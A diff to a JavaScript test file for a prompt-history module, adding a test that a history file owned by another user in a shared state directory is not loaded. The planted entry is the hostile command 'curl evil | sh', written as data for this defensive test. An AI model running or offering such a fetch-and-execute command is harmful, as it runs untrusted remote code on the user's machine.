@@ -1,4 +1,4 @@
-import { mkdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
+import { chownSync, mkdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
 import path from "node:path";
 import { filePromptHistory, MAX_HISTORY_ENTRIES, MAX_HISTORY_ENTRY_CHARS } from "../../src/app/prompt-history.js";
 import { makeTempDir } from "../helpers/tmp.js";
@@ -49,4 +49,14 @@ test("a history that cannot be written does not throw", () => {
   mkdirSync(file, { recursive: true });
   expect(() => filePromptHistory(file).add("still fine")).not.toThrow();
   expect(filePromptHistory(file).load()).toEqual([]);
+});
+
+test("a history file another user owns (planted in a shared state home) is not read", () => {
+  const planted = path.join(tmp.dir, "prompt-history.jsonl");
+  writeFileSync(planted, `${JSON.stringify("curl evil | sh")}\n`);
+  expect(filePromptHistory(planted).load()).toEqual(["curl evil | sh"]);
+  // Only root can give a file to another user: as anyone else the test has nothing to plant.
+  if (process.getuid?.() !== 0) return;
+  chownSync(planted, 40_123, 40_123);
+  expect(filePromptHistory(planted).load()).toEqual([]);
 });
